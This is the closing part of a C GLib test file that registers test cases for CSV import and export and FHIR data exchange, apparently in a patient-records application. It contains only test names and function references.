  g_test_add ("/exchange/csv/many-bad-rows", Fixture, NULL, fixture_setup, test_many_bad_rows, fixture_teardown);
  g_test_add ("/exchange/csv/nul-bytes", Fixture, NULL, fixture_setup, test_nul_bytes, fixture_teardown);
  g_test_add ("/exchange/csv/documented-forms", Fixture, NULL, fixture_setup, test_documented_forms, fixture_teardown);
  g_test_add ("/exchange/csv/formula-round-trip", Fixture, NULL, fixture_setup, test_formula_round_trip, fixture_teardown);
  g_test_add ("/exchange/csv/export-target", Fixture, NULL, fixture_setup, test_export_target, fixture_teardown);
  g_test_add ("/exchange/csv/cancel", Fixture, NULL, fixture_setup, test_cancel, fixture_teardown);
  g_test_add ("/exchange/csv/changed-between-readings", Fixture, NULL, fixture_setup,
              test_import_changed_between_readings, fixture_teardown);
  g_test_add ("/exchange/csv/problems-take-no-lock", Fixture, NULL, fixture_setup,
              test_import_problems_take_no_lock, fixture_teardown);
  g_test_add ("/exchange/csv/plausible-dates", Fixture, NULL, fixture_setup, test_plausible_import, fixture_teardown);
  g_test_add ("/exchange/csv/import-keeps-risk-flag", Fixture, NULL, fixture_setup, test_import_keeps_risk_flag,
              fixture_teardown);
  g_test_add ("/exchange/csv/import-hidden-chunks", Fixture, NULL, fixture_setup, test_import_hidden_chunks,
              fixture_teardown);
  g_test_add ("/exchange/csv/import-hidden-existing-patient", Fixture, NULL, fixture_setup,
              test_import_hidden_existing_patient, fixture_teardown);
  g_test_add ("/exchange/csv/import-hidden-existing-killed", Fixture, NULL, fixture_setup,
              test_import_hidden_existing_killed, fixture_teardown);
  g_test_add ("/exchange/csv/import-hidden-clash", Fixture, NULL, fixture_setup, test_import_hidden_clash,
              fixture_teardown);
  g_test_add ("/exchange/csv/import-hidden-killed", Fixture, NULL, fixture_setup, test_import_hidden_killed,
              fixture_teardown);
  g_test_add_func ("/exchange/fhir/codes", test_codes);
  g_test_add ("/exchange/fhir/bundle", Fixture, NULL, fixture_setup, test_fhir, fixture_teardown);

  return g_test_run ();
}
